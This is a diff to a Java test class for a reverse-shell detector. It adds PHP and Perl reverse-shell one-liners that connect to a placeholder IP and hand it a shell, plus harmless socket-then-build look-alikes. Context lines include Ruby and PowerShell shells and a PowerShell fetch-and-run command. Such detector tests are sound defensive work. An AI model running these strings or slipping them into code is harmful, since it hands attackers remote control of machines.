@@ -34,6 +34,10 @@ class ReverseShellTest {
                 "require 'socket'\nc=TCPSocket.new(h,4444)\nwhile(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end",
                 "f=TCPSocket.open(h,1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
                 "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
+                "<?php $s=fsockopen(\"192.0.2.1\",4444);exec(\"sh <&3 >&3 2>&3\");",
+                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"sh -i\");",
+                "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:1\");STDIN->fdopen($c,r);"
+                        + "$~->fdopen($c,w);system$_ while<>;",
                 "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();\n"
                         + "$d = $e.GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String);",
             })
@@ -65,6 +69,8 @@ class ReverseShellTest {
                 "<?php $f = fsockopen($h, 25); fwrite($f, 'QUIT'); echo fgets($f); system('/bin/sh x.sh');",
                 "s = TCPSocket.new('localhost', 5432); s.close\nIO.popen(['/bin/sh', '-c', 'make']) { |io| puts io.read }",
                 "use Socket;socket(S,PF_INET,SOCK_STREAM,6);close(S);open(STDIN, '<', '/dev/null');exec('/bin/sh x');",
+                "use IO::Socket;$c=new IO::Socket::INET('localhost:5432');print 'up' if $c;system('make');",
+                "<?php $f = fsockopen($h, 25); fclose($f); exec('sh build.sh');",
                 "$t = New-Object Net.Sockets.TcpClient; $t.Connect('localhost', 5432); $t.Close()\n"
                         + "iex ((New-Object Net.WebClient).DownloadString('https://a.example/x'))",
             })
